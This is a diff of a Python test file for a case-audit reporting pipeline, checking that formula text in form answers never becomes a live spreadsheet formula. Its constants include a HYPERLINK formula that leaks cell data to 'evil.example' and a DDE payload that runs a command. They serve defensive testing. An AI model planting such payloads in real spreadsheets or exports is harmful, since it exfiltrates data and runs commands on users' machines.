@@ -9,10 +9,14 @@ import re
 import zipfile
 from pathlib import Path
 
+import pytest
 from formkit import good_answers
+from prepared import Templates
 from relkit import caseaudit, fill, manifest, manifests, output_dir, real_month, rezip, xml_parts
 
 from caseaudit_batch import session
+
+pytestmark = pytest.mark.slow  # real allocate, ingest and report runs as child processes
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ZQFORMULA the child is safe")'
 DDE = "=cmd|' /C calc'!A0 ZQFORMULA"
@@ -27,8 +31,10 @@ def _formula_answers(ctx: session.Context) -> dict[str, object]:
     return answers
 
 
-def test_formula_text_never_becomes_a_formula(tmp_path: Path) -> None:
-    config, forms = real_month(tmp_path / "qa", auditors=6, pause_reason='=HYPERLINK("http://x","ZQFORMULA")')
+def test_formula_text_never_becomes_a_formula(tmp_path: Path, templates: Templates) -> None:
+    config, forms = real_month(
+        tmp_path / "qa", auditors=6, pause_reason='=HYPERLINK("http://x","ZQFORMULA")', templates=templates
+    )
     ctx = session.open_context(config, "2026-09-01")
     answers = _formula_answers(ctx)
     ctx.close()
@@ -61,8 +67,8 @@ def test_formula_text_never_becomes_a_formula(tmp_path: Path) -> None:
     assert {"allocations", "validation", "feedback", "URGENT", "caseaudit-report"} <= carrying
 
 
-def test_control_characters_and_over_long_text_are_reported(tmp_path: Path) -> None:
-    config, forms = real_month(tmp_path / "qa", auditors=4)
+def test_control_characters_and_over_long_text_are_reported(tmp_path: Path, templates: Templates) -> None:
+    config, forms = real_month(tmp_path / "qa", auditors=4, templates=templates)
     ctx = session.open_context(config, "2026-09-01")
     answers = {**good_answers(ctx.framework), "strengths": "ZQCONTROL", "org_learning": "ZQLONG"}
     ctx.close()
